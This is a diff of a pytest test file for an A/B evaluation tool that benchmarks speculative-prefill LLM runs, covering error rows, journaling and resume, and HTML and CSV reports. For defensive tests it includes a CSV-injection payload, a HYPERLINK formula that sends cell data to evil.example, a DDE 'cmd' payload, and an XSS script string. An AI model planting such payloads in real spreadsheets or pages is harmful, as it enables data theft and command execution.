@@ -16,19 +16,23 @@ from types import SimpleNamespace
 import pytest
 
 from engine.core import atomic
+from engine.eval import ab as ab_runner
 from engine.models import defaults as models
-from engine.eval.ab import (AbError, AbFinished, AbProgress, AbRunDone, estimate_remaining, parse_keeps,
-                       run_suite, run_suite_report)
+from engine.eval.ab import (AbCaseDone, AbError, AbFinished, AbProgress, AbRunDone, estimate_remaining,
+                            parse_keeps, run_suite, run_suite_report)
 from engine.cli.ab import add_parser as add_ab_parser
 from engine.cli.ab import command as cmd_ab
 from engine.core.formatting import format_duration
 from engine.core.atomic import write_text_atomic
 from engine.core.cancel import NEVER
-from engine.core.errors import ContextOverflowError, SpecPrefillError
+from engine.core.errors import Cancelled, ContextOverflowError, SpecPrefillError
 from engine.core.events import RunFinished, RunResult, StageChanged
+from engine.eval.journal import JournalHeader, append_case, read_journal, start_journal
 from engine.eval.report import render_csv, render_html, write_csv
+from engine.eval.results import AbReport
 from engine.core.settings import RunSettings
 from engine.eval.suite import Case, SuiteError, load_suite
+from tests.fixtures.unwritable import make_read_only  # noqa: F401 (a fixture)
 
 # -- a scripted engine ------------------------------------------------------------------
 # (question, "baseline" or keep as typed) -> (answer, ttft_s)
@@ -255,11 +259,9 @@ def test_runs_in_order_with_the_callers_settings_and_each_keep(finished):
 
 
 def test_documents_are_ingested_once_per_path(suite_path, monkeypatch):
-    import engine.eval.ab as ab
-
     loaded = []
-    real_load = ab.load_document
-    monkeypatch.setattr(ab, "load_document", lambda path, **kw: loaded.append(path) or real_load(path, **kw))
+    real_load = ab_runner.load_document
+    monkeypatch.setattr(ab_runner, "load_document", lambda path, **kw: loaded.append(path) or real_load(path, **kw))
     engine = FakeEngine()
     list(run_suite(engine, load_suite(suite_path), KEEPS, RunSettings()))
     assert [p.name for p in loaded] == ["xfig.txt", "mpich.txt"]
@@ -291,27 +293,55 @@ def test_estimate_remaining():
 
 def test_bypassed_runs_are_recorded(suite_path):
     report = run_suite_report(FakeEngine(bypass_keeps={"0.5"}), load_suite(suite_path), KEEPS, RunSettings())
-    s = report.summary["spec"]
-    assert s["0.5"]["n_bypassed"] == 3 and s["0.1"]["n_bypassed"] == 0
-    assert report.cases[0]["spec"]["0.5"]["bypassed"] is True
-    assert report.environment["positions_used"] == "restore"
+    s = report.summary.overall.spec
+    assert s["0.5"].n_bypassed == 3 and s["0.1"].n_bypassed == 0
+    assert report.cases[0].spec["0.5"].result.bypassed is True
+    assert report.environment.positions_used == "restore"
 
 
 def test_progress_callback_and_report(suite_path):
     seen: list = []
     report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings(), on_progress=seen.append)
     assert [type(e) for e in seen[:2]] == [AbProgress, AbRunDone] and len(seen) == 18
-    assert report.summary["baseline"]["accuracy"] == 1.0
+    assert report.summary.overall.baseline.accuracy == 1.0
 
 
-def test_a_failing_case_names_its_id_and_line(suite_path):
-    with pytest.raises(AbError, match=r"case 'etchant' \(suite line 4\): the prompt has 40000 tokens"):
-        list(run_suite(FakeEngine(fail_on="etchant?"), load_suite(suite_path), KEEPS, RunSettings()))
+def test_a_failing_case_becomes_an_error_row_and_the_suite_goes_on(suite_path):
+    events = list(run_suite(FakeEngine(fail_on="etchant?"), load_suite(suite_path), KEEPS, RunSettings()))
+    (failure,) = [e.failure for e in events if isinstance(e, AbCaseDone) and e.failure]
+    assert failure == "case 'etchant' (suite line 4): the prompt has 40000 tokens"
+    report = events[-1].report
+    data = report.to_json()
+    grid, etchant, summary = data["cases"]
+    assert "status" not in grid and "error" not in grid  # finished cases keep today's fields only
+    assert etchant["status"] == "error" and etchant["error"] == "the prompt has 40000 tokens"
+    assert etchant["baseline"] is None and etchant["spec"] == {} and etchant["prompt_tokens"] is None
+    assert summary["spec"]["0.1"]["answer"] == "a guide to mpich"  # the case after it ran
+    # The figures leave the failed case out, and count it.
+    s = data["summary"]
+    assert s["n_cases"] == 3 and s["n_errors"] == 1
+    assert s["baseline"]["n_scored"] == 1 and s["baseline"]["mean_ttft_s"] == pytest.approx(20.0)
+    assert s["by_kind"]["number"]["n_errors"] == 1 and "n_errors" not in s["by_kind"]["summary"]
+    assert AbReport.from_json(data) == report
+    # Progress skips the failed case's remaining runs.
+    progress = [e for e in events if isinstance(e, AbProgress)]
+    assert progress[-1].runs_total == 6 and len(progress) == 6 + 1
+
+
+def test_a_failed_case_shows_in_the_html_and_the_csv(suite_path):
+    report = run_suite_report(FakeEngine(fail_on="etchant?"), load_suite(suite_path), KEEPS, RunSettings())
+    page = render_html(report)
+    assert "Failed: the prompt has 40000 tokens" in page and "1 failed" in page
+    rows = list(csv.DictReader(io.StringIO(render_csv(report), newline="")))
+    failed = [r for r in rows if r["case_id"] == "etchant"]
+    assert [(r["run"], r["error"]) for r in failed] == [("", "the prompt has 40000 tokens")]
+    assert all(r["error"] == "" for r in rows if r["case_id"] != "etchant") and len(rows) == 2 * 3 + 1
 
 
 def test_environment_records_models_runtime_and_settings(suite_path):
     engine = FakeEngine(info=fake_info(target_path=models.TARGET.path))
-    env = run_suite_report(engine, load_suite(suite_path), KEEPS, RunSettings(positions="auto")).environment
+    report = run_suite_report(engine, load_suite(suite_path), KEEPS, RunSettings(positions="auto"))
+    env = report.to_json()["environment"]
     assert env["target"] == {"name": "fake target", "path": str(models.TARGET.path), "default": True,
                              "sha256": models.TARGET.sha256}
     assert env["draft"]["sha256"] == models.DRAFT.sha256
@@ -320,7 +350,7 @@ def test_environment_records_models_runtime_and_settings(suite_path):
     assert {"python", "torch", "llama_cpp_python"} <= env["versions"].keys()
     assert env["date"] and "keep" not in env["settings"] and env["settings"]["min_tokens"] is None
 
-    custom = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings()).environment
+    custom = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings()).to_json()["environment"]
     assert custom["target"]["default"] is False and custom["target"]["sha256"] is None
 
 
@@ -329,9 +359,9 @@ HOSTILE = '<script>alert("x")</script> & more'
 
 
 @pytest.fixture
-def report(suite_path) -> dict:
+def report(suite_path) -> AbReport:
     script = {**SCRIPT, ("grid?", "0.5"): (HOSTILE, 4.0)}
-    return run_suite_report(FakeEngine(script=script), load_suite(suite_path), KEEPS, RunSettings()).to_json()
+    return run_suite_report(FakeEngine(script=script), load_suite(suite_path), KEEPS, RunSettings())
 
 
 def test_html_report_embeds_plots_and_escapes_answers(report):
@@ -349,11 +379,16 @@ def test_html_report_embeds_plots_and_escapes_answers(report):
     assert "keep 0.1" in page and "fake target" in page
 
 
+def test_html_report_reads_accuracy_as_the_cli_does(report):
+    page = render_html(report)
+    assert "100.0% (2/2)" in page and "50.0% (1/2)" in page
+
+
 def test_html_report_without_any_expected_answers(suite_dir):
     path = write_suite(suite_dir, [case_line(id="summary", doc="docs/mpich.txt", question="summary?")])
-    data = run_suite_report(FakeEngine(), load_suite(path), KEEPS, RunSettings()).to_json()
-    assert data["summary"]["baseline"]["accuracy"] is None
-    assert render_html(data).count("data:image/png;base64,") == 2
+    report = run_suite_report(FakeEngine(), load_suite(path), KEEPS, RunSettings())
+    assert report.summary.overall.baseline.accuracy is None
+    assert render_html(report).count("data:image/png;base64,") == 2
 
 
 def test_csv_has_one_row_per_case_and_run(report, tmp_path):
@@ -404,16 +439,30 @@ def parse_ab(*argv: str) -> argparse.Namespace:
     return parser.parse_args(["ab", *argv])
 
 
+class FakeLoader(list):
+    """Stands in for engine.cli.ab.load_engine and keeps the engines it made; `kwargs` go to the next one."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.kwargs: dict = {}
+
+    def __call__(self, args, cancel, quiet) -> FakeEngine:
+        self.append(FakeEngine(**self.kwargs))
+        return self[-1]
+
+
 @pytest.fixture
 def fake_loader(monkeypatch):
-    engines: list[FakeEngine] = []
+    loader = FakeLoader()
+    monkeypatch.setattr(engine.cli.ab, "load_engine", loader)
+    return loader
 
-    def load_engine(args, cancel, quiet):
-        engines.append(FakeEngine())
-        return engines[-1]
 
-    monkeypatch.setattr(engine.cli.ab, "load_engine", load_engine)
-    return engines
+@pytest.fixture(autouse=True)
+def cache_home(tmp_path, monkeypatch) -> Path:
+    """The journal of a suite run without --report or --csv goes to the cache: a fresh one per test."""
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    return tmp_path / "cache"
 
 
 def test_ab_parser_defaults(suite_path):
@@ -457,3 +506,122 @@ def test_ab_command_rejects_bad_input_before_loading_models(suite_path, fake_loa
 
 def test_format_duration():
     assert [format_duration(s) for s in (4.4, 65, 3725)] == ["4s", "1m05s", "1h02m"]
+
+
+# -- CSV injection ---------------------------------------------------------------------------------
+ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+
+
+def test_csv_neutralizes_formulas_in_text_cells_but_not_in_numbers(suite_dir):
+    path = write_suite(suite_dir, [case_line(id="=1+1", doc="docs/xfig.txt", question="grid?", kind="@kind")])
+    script = {**SCRIPT, ("grid?", "baseline"): (ATTACK, 10.0), ("grid?", "0.1"): ("-0.5", 0.5),
+              ("grid?", "0.5"): ("\t+cmd|' /C calc'!A0", 4.0)}
+    report = run_suite_report(FakeEngine(script=script), load_suite(path), KEEPS, RunSettings())
+    base, low, high = csv.DictReader(io.StringIO(render_csv(report), newline=""))
+    assert base["answer"] == "'" + ATTACK  # a spreadsheet shows it as text, never runs it
+    assert low["answer"] == "'-0.5" and high["answer"] == "'\t+cmd|' /C calc'!A0"
+    assert base["case_id"] == "'=1+1" and base["kind"] == "'@kind"
+    assert float(low["target_prefill_s"]) == -0.5  # a number stays a number, even a negative one
+    assert low["keep"] == "0.1" and low["ttft_s"] == "0.5"
+
+
+# -- the `ab` command: journal, resume, failures, output folders ------------------------------------
+def journal_lines(path: Path) -> list[dict]:
+    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
+
+
+def test_ab_command_goes_on_after_a_failing_case_and_journals_each_case(suite_path, tmp_path, fake_loader, capsys):
+    fake_loader.kwargs = {"fail_on": "etchant?"}
+    html, table = tmp_path / "ab.html", tmp_path / "ab.csv"
+    args = parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(html), "--csv", str(table))
+    assert cmd_ab(args, NEVER) == 0
+    out, err = capsys.readouterr()
+    journal = tmp_path / "ab.journal.jsonl"
+    assert f"finished cases go to {journal}" in err
+    assert "[ab] failed, the suite goes on: case 'etchant' (suite line 4): the prompt has 40000 tokens" in err
+    assert "failed, left out of the figures above (1):" in out and "etchant: the prompt has 40000 tokens" in out
+    header, *records = journal_lines(journal)
+    assert header["keeps"] == ["0.1", "0.5"] and header["suite"] == str(suite_path.resolve())
+    assert [(r["id"], r.get("status")) for r in records] == [("grid", None), ("etchant", "error"), ("summary", None)]
+    assert "Failed: the prompt has 40000 tokens" in html.read_text()
+    assert len(table.read_text().splitlines()) == 1 + 2 * 3 + 1
+
+
+class CancelOn(FakeEngine):
+    """Cancelled (as by Ctrl-C) when asked `question`."""
+
+    def __init__(self, question: str) -> None:
+        super().__init__()
+        self.cancel_on = question
+
+    def stream(self, document, question, mode, settings, cancel=NEVER):
+        if question == self.cancel_on:
+            raise Cancelled()
+        yield from super().stream(document, question, mode, settings, cancel)
+
+
+def test_ab_resume_runs_only_the_cases_the_journal_lacks(suite_path, tmp_path, fake_loader, monkeypatch, capsys):
+    table = tmp_path / "ab.csv"
+    argv = ("--suite", str(suite_path), "--keep", "0.1,0.5", "--csv", str(table))
+    monkeypatch.setattr(engine.cli.ab, "load_engine", lambda args, cancel, quiet: CancelOn("summary?"))
+    with pytest.raises(Cancelled):
+        cmd_ab(parse_ab(*argv), NEVER)
+    assert [r["id"] for r in journal_lines(tmp_path / "ab.journal.jsonl")[1:]] == ["grid", "etchant"]
+    assert not table.exists()
+
+    monkeypatch.setattr(engine.cli.ab, "load_engine", fake_loader)
+    assert cmd_ab(parse_ab(*argv, "--resume", "--json"), NEVER) == 0
+    out, err = capsys.readouterr()
+    assert "resuming from" in err and "2 finished cases will not run again" in err
+    assert {question for _, question, *_ in fake_loader[0].calls} == {"summary?"}
+    data = json.loads(out)
+    assert [c["id"] for c in data["cases"]] == ["grid", "etchant", "summary"]
+    assert data["summary"]["spec"]["0.1"]["speedup"] == pytest.approx(5.0)  # as if run in one go
+    assert len(table.read_text().splitlines()) == 1 + 9
+
+
+def test_ab_resume_refuses_a_journal_made_with_other_keeps_or_settings(suite_path, tmp_path, fake_loader):
+    report = tmp_path / "ab.html"
+    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report)), NEVER) == 0
+    with pytest.raises(AbError, match=r"cannot resume from .*ab\.journal\.jsonl: it was made with keeps '0\.1,0\.5' "
+                                      r"\(now '0\.1'\)"):
+        cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1", "--report", str(report), "--resume"), NEVER)
+    with pytest.raises(AbError, match=r"chunk_size 32 \(now 64\)"):
+        cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume",
+                        "--chunk-size", "64"), NEVER)
+    assert len(fake_loader) == 1  # refused before loading the models
+
+
+def test_ab_journal_without_an_output_file_goes_to_the_cache(suite_path, fake_loader, cache_home, capsys):
+    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5"), NEVER) == 0
+    (journal,) = (cache_home / "specprefill" / "ab-journals").glob("suite-*.journal.jsonl")
+    assert f"finished cases go to {journal}" in capsys.readouterr().err
+    assert len(journal_lines(journal)) == 1 + 3
+
+
+def test_ab_command_refuses_a_read_only_output_folder_before_loading_models(
+        suite_path, tmp_path, fake_loader, make_read_only):
+    out = tmp_path / "out"
+    out.mkdir()
+    make_read_only(out)
+    with pytest.raises(AbError, match=rf"cannot write {out / 'ab.html'}: Permission denied"):
+        cmd_ab(parse_ab("--suite", str(suite_path), "--report", str(out / "ab.html")), NEVER)
+    assert fake_loader == []
+
+
+def test_ab_help_says_where_the_journal_goes(capsys):
+    with pytest.raises(SystemExit):
+        parse_ab("--help")
+    assert "OUT.journal.jsonl beside --report" in " ".join(capsys.readouterr().out.split())
+
+
+def test_a_journal_line_cut_short_by_a_kill_is_ignored(suite_path, tmp_path):
+    report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings())
+    header = JournalHeader.of(suite_path, KEEPS, report.environment.settings)
+    path = tmp_path / "ab.journal.jsonl"
+    start_journal(path, header, report.cases[:1])
+    append_case(path, report.cases[1])
+    with open(path, "a", encoding="utf-8") as fh:
+        fh.write(json.dumps(report.cases[2].to_json())[:40])  # the kill came mid-write
+    assert list(read_journal(path, header)) == ["grid", "etchant"]
+    assert read_journal(path, header)["grid"] == report.cases[0]
